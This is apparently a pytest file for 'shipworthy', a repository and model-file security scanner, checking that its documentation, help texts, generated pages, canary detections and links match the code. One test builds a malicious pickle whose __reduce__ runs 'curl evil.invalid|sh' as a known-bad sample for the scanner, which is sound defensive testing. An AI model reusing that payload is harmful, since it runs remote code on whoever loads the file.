"""What is written is so: commands run, pages match the code, links lead somewhere, every check sees its sample."""

from __future__ import annotations

import contextlib
import importlib
import io
import json
import os
import pickle
import re
import runpy
import shlex
from datetime import date
from pathlib import Path

import numpy as np
import pytest
import safetensors.numpy
from markdown_it import MarkdownIt

from shipworthy.check import all_rules, registry
from shipworthy.cli import COMMANDS, EPILOG, _parser, main
from shipworthy.cli.pages import check_page, settings_page
from shipworthy.config import Settings
from shipworthy.config.reference import reference
from shipworthy.engine.canaries import fire_canaries
from shipworthy.errors import ExitCode

ROOT = Path(__file__).parent.parent
DOCS = sorted([*ROOT.glob("*.md"), *(ROOT / "docs").rglob("*.md")])
TAXONOMY = re.compile(
    r"CWE-\d{1,4}|AML\.T\d{4}(\.\d{3})?|(LLM|ML)(0[1-9]|10):20\d\d|ASI(0[1-9]|10)|CICD-SEC-\d{1,2}|AISVS C\d+(\.\d+)*|"
    r"(iso-\d+-\d+/)?A\.\d+(\.\d+)*|Art\. \d+|(GOVERN|MAP|MEASURE|MANAGE) \d(\.\d+)?|"
    r"(nist-ssdf-1\.1/)?(PO|PS|PW|RV)\.\d(\.\d+)?|"
    r"K(0[1-9]|10):2025|(AC|AT|AU|CA|CM|CP|IA|IR|MA|MP|PE|PL|PM|PS|PT|RA|SA|SC|SI|SR)-\d{1,2}(\(\d+\))?"
)
# In a sentence a command may stand by its name alone; what it needs is said beside it.
NAMES_ONLY = {
    f"shipworthy {name}" for name in ("waive", "keys new", "sign", "explain", "merge", "db", "keys", "new-check")
}
PLACEHOLDERS = {"NAME": "some-name", "CATEGORY": "code", "KIND": "text"}
FOLDERS = ("src", "docs", "scripts", "tests", "benchmarks", "requirements", ".ci", ".github")
KEBAB = re.compile(r"[a-z][a-z0-9]*(-[a-z0-9]+)*")
MACHINE = re.compile(
    r"/work/|/home/(?!user\b|me\b|alice\b|bob\b|you\b|ml\b)\w+/|/Users/(?!me\b|alice\b|you\b)\w+/|/root/\.pyenv"
)


def tokens(path: Path) -> list[object]:
    return list(MarkdownIt("commonmark").parse(path.read_text(encoding="utf-8")))


def commands(path: Path) -> list[str]:
    """The lines of a page's code blocks and inline code that call shipworthy, comments left out."""
    text = path.read_text(encoding="utf-8")
    blocks = re.findall(r"^```(?:sh|console|bash)?\n(.*?)^```", text, re.MULTILINE | re.DOTALL)
    lines = [line.strip().removeprefix("$ ") for block in blocks for line in block.splitlines()]
    spoken = re.findall(r"(?<!`)`(shipworthy(?: [^`\n]*)?)`(?!`)", text)
    lines += [line for line in spoken if line not in NAMES_ONLY]
    return [line.partition("  #")[0].strip() for line in lines if re.match(r"shipworthy(?:$| )", line)]


CALLS = sorted({(page.relative_to(ROOT).as_posix(), line) for page in DOCS for line in commands(page)})


def examples_of(name: str) -> list[str]:
    """The lines of a command's examples, those that go on joined."""
    text: str = importlib.import_module(f"shipworthy.cli.{COMMANDS[name][0]}").EXAMPLES
    return re.sub(r"\\\n\s*", "", text).splitlines()


EXAMPLES = sorted(
    {
        (name, re.split(r" {3,}", line.strip())[0])
        for name in COMMANDS
        for line in examples_of(name)
        if line.strip().startswith("shipworthy")
    }
)


def parse(line: str) -> None:
    """Let the command line's own parser judge a call; nothing is run. Raises SystemExit for a wrong one."""
    words = shlex.split(re.split(r"\s[|>&;]", line)[0])[1:]
    name = next((word for word in words if not word.startswith("-")), None)
    errors = io.StringIO()
    with contextlib.redirect_stderr(errors), contextlib.redirect_stdout(io.StringIO()):
        try:
            _parser(name if name in COMMANDS else None).parse_args(words)
        except SystemExit as end:
            assert end.code == 0, f"{line}: {errors.getvalue()}"


def test_the_documentation_has_commands() -> None:
    assert len(CALLS) > 10
    assert {name for name, _ in EXAMPLES} == set(COMMANDS)


@pytest.mark.parametrize(("page", "line"), CALLS)
def test_every_command_in_the_documentation_is_one(page: str, line: str) -> None:
    for word, example in PLACEHOLDERS.items():
        line = re.sub(rf"\b{word}\b", example, line)
    parse(line.replace("...", ""))


@pytest.mark.parametrize(("name", "line"), EXAMPLES)
def test_every_example_of_a_help_text_is_one(name: str, line: str) -> None:
    parse(line)


@pytest.mark.parametrize("name", sorted(COMMANDS))
def test_every_command_has_help_with_examples(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as end:
        main([name, "--help"])
    printed = capsys.readouterr().out
    assert end.value.code == 0
    assert "examples:" in printed
    assert f"shipworthy {name}" in printed.partition("examples:")[2]


def test_the_first_page_of_help_names_every_command(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as end:
        main(["--help"])
    printed = capsys.readouterr().out
    assert end.value.code == 0
    for name in COMMANDS:
        assert re.search(rf"^ +{name}\s", printed, re.MULTILINE), name


def test_the_commands_of_the_readme_work_in_any_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """The part that needs no data of one's own: look, scan, write settings, make a key."""
    repository = tmp_path / "your-repository"
    repository.mkdir()
    (repository / "main.py").write_text("print('hello')\n")
    monkeypatch.chdir(repository)
    readme = [line for page, line in CALLS if page == "README.md"]
    for line, code in (
        ("shipworthy", (0,)),
        ("shipworthy scan .", (0, 1, 3)),
        ("shipworthy init", (0,)),
        ("shipworthy keys new --roles ../keys", (0,)),
    ):
        assert line in readme
        assert main(shlex.split(line)[1:]) in code, line
    assert (repository / "shipworthy.toml").is_file()
    assert (tmp_path / "keys" / "release.key").is_file()
    assert "Traceback" not in "".join(capfd.readouterr())


def test_the_model_of_the_readme_is_explained_as_it_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return os.system, ("curl evil.invalid|sh",)

    monkeypatch.chdir(tmp_path)
    (tmp_path / "model.pkl").write_bytes(pickle.dumps({"weights": [1, 2], "x": Evil()}, 4))
    safetensors.numpy.save_file({"w": np.ones(3)}, tmp_path / "model.safetensors")
    section = (ROOT / "README.md").read_text().partition("## One model file")[2].partition("\n## ")[0]
    calls, printed, code = re.findall(r"^```(?:python)?\n(.*?)^```", section, re.MULTILINE | re.DOTALL)
    assert "shipworthy explain model.pkl" in calls
    assert main(["explain", "model.pkl"]) == 0
    assert capfd.readouterr().out.strip() == printed.strip()
    exec(code, {})


def test_make_targets_that_are_named_are_there() -> None:
    targets = set(re.findall(r"^([a-z]+):", (ROOT / "Makefile").read_text(), re.MULTILINE))
    for page in DOCS:
        for name in re.findall(r"(?:^|`)make ([a-z]+)", page.read_text(), re.MULTILINE):
            assert name in targets, f"{page.name}: make {name}"


# --- pages that are made from the code ------------------------------------------------------------------------------


def test_the_settings_page_is_up_to_date() -> None:
    assert (ROOT / "docs" / "settings.md").read_text() == settings_page(), "run `make docs`"


def test_there_is_a_page_for_every_check_and_for_no_other() -> None:
    assert {path.stem for path in (ROOT / "docs" / "checks").glob("*.md")} == set(registry()), "run `make docs`"


@pytest.mark.parametrize("name", sorted(registry()))
def test_the_page_of_a_check_is_up_to_date(name: str) -> None:
    assert (ROOT / "docs" / "checks" / f"{name}.md").read_text() == check_page(registry()[name]), "run `make docs`"


def test_making_the_pages_changes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`scripts/make_docs.py` itself, in a folder of its own; a page whose check is gone goes too."""
    copy = tmp_path / "scripts" / "make_docs.py"
    copy.parent.mkdir()
    copy.write_text((ROOT / "scripts" / "make_docs.py").read_text())
    (tmp_path / "docs" / "checks").mkdir(parents=True)
    (tmp_path / "docs" / "checks" / "gone.md").write_text("# gone\n")
    formats = (ROOT / "docs" / "model-formats.md").read_text()
    rows = re.sub(r"(?m)^\| (?!format ).*\n", "", formats)
    (tmp_path / "docs" / "model-formats.md").write_text(rows)
    runpy.run_path(str(copy), run_name="__main__")
    made = {path.relative_to(tmp_path): path.read_text() for path in (tmp_path / "docs").rglob("*.md")}
    for path, text in made.items():
        assert (ROOT / path).read_text() == text, f"{path}: run `make docs`"
    assert len(made) == len(registry()) + 3


def test_every_setting_is_documented() -> None:
    text = (ROOT / "docs" / "settings.md").read_text()
    rows = reference()
    assert len(rows) > 40
    for name, kind, _, about in rows:
        assert f"| `{name}` | {kind} |" in text, name
        assert len(about.split()) > 1, f"{name} has no explanation"


# --- checks and rules ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(registry()))
def test_every_check_sees_its_known_bad_sample(name: str, tmp_path: Path) -> None:
    (row,) = [row for row in fire_canaries(Settings(), tmp_path, (name,)) if row.check == name]
    if row.absent:
        pytest.skip(row.reason)  # a second witness that is not needed
    assert row.seen, f"{row.reason} {row.remedy}"


@pytest.mark.parametrize("name", sorted(registry()))
def test_every_check_says_what_it_is(name: str) -> None:
    check = registry()[name]
    assert KEBAB.fullmatch(name)
    assert check.rules
    assert check.summary.endswith(".")
    assert check.canary is not None
    assert check.canary.rule in {rule.id for rule in check.rules}


@pytest.mark.parametrize("name", sorted(all_rules()))
def test_every_rule_says_why_it_matters_and_what_to_do(name: str) -> None:
    rule = all_rules()[name]
    assert KEBAB.fullmatch(rule.id)
    assert rule.title
    assert not rule.title.endswith(".")
    assert len(rule.description) > 20
    assert rule.description.endswith((".", "!"))
    assert rule.remedy.endswith((".", "`", ")"))
    assert KEBAB.fullmatch(rule.help), f"its help topic is {rule.help!r}"
    assert all(TAXONOMY.fullmatch(item) for item in rule.taxonomy), rule.taxonomy
    assert len(set(rule.taxonomy)) == len(rule.taxonomy)


@pytest.mark.parametrize("name", sorted(all_rules()))
def test_every_rule_can_be_explained(name: str, capfd: pytest.CaptureFixture[str]) -> None:
    assert main(["explain", name]) == 0
    assert all_rules()[name].title.split()[0] in capfd.readouterr().out


# --- the texts themselves --------------------------------------------------------------------------------------------


def test_the_exit_codes_that_are_documented_are_the_exit_codes() -> None:
    section = (ROOT / "README.md").read_text().partition("## Exit codes")[2].partition("\n## ")[0]
    table = re.findall(r"^\| (\d) \| (.+?) \|$", section, re.MULTILINE)
    assert [int(number) for number, _ in table] == [int(code) for code in ExitCode]
    assert [int(number) for number in re.findall(r"(?<![\w.])(\d) (?=[a-z])", EPILOG.partition("exit codes:")[2])] == [
        int(code) for code in ExitCode
    ]


def test_the_changelog_has_its_form() -> None:
    text = (ROOT / "CHANGELOG.md").read_text()
    assert text.startswith("# Changelog\n")
    assert "keepachangelog.com" in text
    headings = re.findall(r"^## (.+)$", text, re.MULTILINE)
    assert headings[0] == "[Unreleased]" or re.match(r"\[\d", headings[0])
    days = []
    for heading in headings:
        match = re.fullmatch(
            r"\[Unreleased\]|\[\d+\.\d+\.\d+(?:-[\w.]+)?\] - (\d{4}-\d{2}-\d{2})(?: \[YANKED\])?", heading
        )
        assert match, heading
        if match[1]:
            days.append(date.fromisoformat(match[1]))
    assert days == sorted(days, reverse=True)
    kinds = set(re.findall(r"^### (.+)$", text, re.MULTILINE))
    assert kinds <= {"Added", "Changed", "Deprecated", "Removed", "Fixed", "Security"}


def anchors(path: Path) -> set[str]:
    """The anchors of a page's headings, as code hosts make them."""
    found = set()
    for line in re.findall(r"^#+ (.+)$", path.read_text(), re.MULTILINE):
        found.add(re.sub(r"[^\w\- ]", "", line.strip().lower()).replace(" ", "-"))
    return found


@pytest.mark.parametrize("page", DOCS, ids=lambda page: page.relative_to(ROOT).as_posix())
def test_every_link_leads_somewhere(page: Path) -> None:
    text = re.sub(r"^```.*?^```", "", page.read_text(), flags=re.MULTILINE | re.DOTALL)
    wrong = []
    for target in re.findall(r"\]\(([^)\s]+)\)", text):
        if re.match(r"[a-z]+:", target):
            assert target.startswith(("https://", "mailto:")), target
            continue
        name, _, anchor = target.partition("#")
        place = (page.parent / name).resolve() if name else page
        inside = ROOT.resolve() in (place, *place.parents)
        if not inside or not place.exists() or (anchor and anchor not in anchors(place)):
            wrong.append(target)
    assert not wrong


def test_the_schema_of_the_record_is_linked_and_json() -> None:
    assert "docs/run.schema.json" in (ROOT / "README.md").read_text()
    assert json.loads((ROOT / "docs" / "run.schema.json").read_text())["$schema"]


def test_no_path_of_a_machine_is_in_the_tree() -> None:
    wrong = []
    for path in ROOT.rglob("*"):
        parts = path.relative_to(ROOT).parts
        if not path.is_file() or (len(parts) > 1 and parts[0] not in FOLDERS):
            continue
        if "__pycache__" in parts or path == Path(__file__).resolve() or path.name == ".git":
            continue
        with contextlib.suppress(UnicodeDecodeError):
            wrong += [f"{path.relative_to(ROOT)}: {m[0]}" for m in MACHINE.finditer(path.read_text(encoding="utf-8"))]
    assert not wrong
